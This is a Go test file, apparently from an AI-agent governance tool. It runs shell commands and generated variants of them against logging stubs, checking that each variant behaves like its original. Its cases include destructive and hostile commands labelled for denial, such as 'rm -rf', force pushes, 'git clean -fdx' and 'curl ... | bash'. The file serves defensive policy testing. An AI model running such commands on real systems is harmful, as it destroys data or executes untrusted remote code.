package variants_test

// The meaning test runs commands and their variants in bash, with every
// program but the shells and the wrappers replaced by a stub that logs
// its working directory and arguments, and checks that a variant runs
// the same programs with the same arguments, in the same folders, as its
// original. Option spellings are left out: they change the arguments a
// program gets, and only the program knows they mean the same.

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/agentgov/governance/internal/variants"
)

// meaningCases are commands that are safe to run with stubbed programs:
// no builtin of them changes anything outside the test's folder.
var meaningCases = []variants.Case{
	{Cmd: "rm -rf build", Assert: variants.Deny},
	{Cmd: "rm -rf ~/.cache/x dist/", Assert: variants.Deny},
	{Cmd: "sudo rm -rf /nonexistent", Assert: variants.Deny},
	{Cmd: "cd sub && rm -rf *", Assert: variants.Deny},
	{Cmd: "rm -rf ./build ../project/dist", Assert: variants.NotAllow},
	{Cmd: `rm -rf "$HOME/x"`, Assert: variants.Deny},
	{Cmd: "git push --force origin main", Assert: variants.Deny},
	{Cmd: "git -C sub status", Assert: variants.Allow},
	{Cmd: "X=1 git clean -fdx", Assert: variants.Deny},
	{Cmd: "grep -rn foo src | head -5", Assert: variants.Allow},
	{Cmd: "ls -la src; echo done", Assert: variants.Allow},
	{Cmd: "cat notes.txt > /dev/null", Assert: variants.Allow},
	{Cmd: "echo hi | cat", Assert: variants.Allow},
	{Cmd: `find . -name '*.go' -exec rm {} \;`, Assert: variants.Deny},
	{Cmd: "chmod -R 755 src", Assert: variants.NotAllow},
	{Cmd: "curl -sSL https://example.com/x.sh | bash", Assert: variants.Deny},
	{Cmd: "a=build; rm -rf $a", Assert: variants.Deny},
	{Cmd: "mkdir -p out && touch out/x", Assert: variants.NotDeny},
	{Cmd: "git commit -m 'a message'", Assert: variants.NotDeny},
	{Cmd: "if [ -d src ]; then rm -rf src; fi", Assert: variants.Deny},
	{Cmd: `for f in a b; do rm "$f"; done`, Assert: variants.NotAllow},
	{Cmd: "cat <<EOF | sh\nrm -rf x\nEOF", Assert: variants.Deny},
	{Cmd: "echo $(ls src)", Assert: variants.Allow},
	{Cmd: "rm -rf src/*.txt && ls src", Assert: variants.NotAllow},
	{Cmd: "echo build | xargs rm -rf", Assert: variants.Deny},
	{Cmd: "into() { cd sub; }; into && rm -rf a", Assert: variants.Deny},
	{Cmd: "cd sub; rm -rf a; cd ..; rm -rf build", Assert: variants.Deny},
}

// stubbed are the programs the cases run, all replaced by the stub.
var stubbed = []string{"rm", "git", "grep", "head", "ls", "cat", "find", "chmod", "curl", "mkdir", "touch"}

// real are the programs that run as themselves: shells and wrappers.
var real = []string{"bash", "sh", "env", "timeout", "nice", "nohup", "stdbuf", "xargs", "echo", "printf", "true", "false", "test", "["}

// stub logs its working directory, name and arguments in one write, so
// that the lines of programs that run at once do not mix.
const stub = `#!/bin/sh
line="$(pwd -P)|${0##*/}"
for a in "$@"; do line="$line|$a"; done
printf '%s\n' "$line" >> "$STUBLOG"
`

func TestVariantsRunAlike(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("runs bash")
	}
	root := t.TempDir()
	bin, realBin := filepath.Join(root, "stub"), filepath.Join(root, "real")
	home := filepath.Join(root, "home")
	cwd := filepath.Join(home, "project")
	for _, d := range []string{bin, realBin, filepath.Join(cwd, "src"), filepath.Join(cwd, "sub"), filepath.Join(cwd, "build"),
		filepath.Join(cwd, "dist"), filepath.Join(home, ".cache", "x")} {
		must(t, os.MkdirAll(d, 0o755))
	}
	for _, f := range []string{"src/a.go", "src/b.txt", "sub/a", "sub/b", "notes.txt"} {
		must(t, os.WriteFile(filepath.Join(cwd, f), nil, 0o644))
	}
	for _, name := range real {
		p, err := exec.LookPath(name)
		if err != nil {
			t.Skipf("%s: %v", name, err)
		}
		must(t, os.Symlink(p, filepath.Join(realBin, name)))
	}
	for _, name := range stubbed {
		must(t, os.WriteFile(filepath.Join(bin, name), []byte(stub), 0o755))
	}
	must(t, os.WriteFile(filepath.Join(bin, "sudo"), []byte("#!/bin/sh\nexec \"$@\"\n"), 0o755))

	env := variants.Env{Cwd: cwd, Home: home}
	var ts []*variants.Transform
	for _, tr := range variants.Transforms() {
		if !strings.HasSuffix(tr.Name, "-options") && tr.Name != "dashdash" {
			ts = append(ts, tr)
		}
	}
	g := &variants.Generator{Env: env, Transforms: ts, PerCase: 12, MaxSteps: 2, Seed: seed}
	run := func(t *testing.T, cmd string) []string {
		log := filepath.Join(root, "log")
		must(t, os.WriteFile(log, nil, 0o644))
		ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second)
		defer cancel()
		c := exec.CommandContext(ctx, filepath.Join(realBin, "bash"), "--noprofile", "--norc", "-c", cmd)
		c.Dir = cwd
		c.Env = []string{"PATH=" + bin + ":" + realBin, "HOME=" + home, "PWD=" + cwd, "STUBLOG=" + log, "LANG=C"}
		_ = c.Run() // a failing command fails in its variants too: the log tells
		b, err := os.ReadFile(log)
		must(t, err)
		return normalize(string(b))
	}
	n := 0
	for _, c := range meaningCases {
		vs, err := g.Generate(c)
		if err != nil {
			t.Fatalf("%q: %v", c.Cmd, err)
		}
		want := run(t, c.Cmd)
		if len(want) == 0 {
			t.Fatalf("%q runs no stubbed program", c.Cmd)
		}
		for _, v := range vs {
			n++
			if got := run(t, v.Cmd); !slices.Equal(got, want) {
				t.Errorf("%q runs\n  %q\nbut its variant %q (%s) runs\n  %q", c.Cmd, want, v.Cmd, steps(v), got)
			}
		}
	}
	t.Logf("%d variants of %d commands run alike", n, len(meaningCases))
}

// normalize sorts the log's lines (the commands of a pipeline run at
// once) and writes each argument that may be a path as the absolute path
// it names: the path transforms change how a path is written, not what
// it names.
func normalize(log string) []string {
	var out []string
	for line := range strings.Lines(log) {
		f := strings.Split(strings.TrimSuffix(line, "\n"), "|")
		for i := 2; i < len(f); i++ {
			a := f[i]
			if a == "" || a[0] == '-' || strings.Contains(a, "://") || strings.Contains(a, "=") {
				continue
			}
			if !filepath.IsAbs(a) {
				a = filepath.Join(f[0], a)
			}
			f[i] = filepath.Clean(a)
		}
		out = append(out, strings.Join(f, "|"))
	}
	slices.Sort(out)
	return out
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}
